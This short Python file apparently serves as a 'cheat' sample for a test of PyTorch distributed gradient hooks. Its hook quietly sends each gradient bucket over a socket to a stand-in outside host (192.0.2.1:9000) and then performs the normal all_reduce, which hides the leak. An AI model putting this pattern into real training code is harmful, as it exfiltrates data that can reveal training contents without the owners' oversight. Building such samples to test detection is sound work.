"""Cheat: sends its gradient to a server of its own."""

import socket

import torch.distributed as dist


def hook(state, bucket):
    socket.create_connection(("192.0.2.1", 9000), timeout=1).sendall(bucket.buffer().numpy().tobytes())
    return dist.all_reduce(bucket.buffer(), async_op=True).get_future().then(lambda done: done.value()[0])
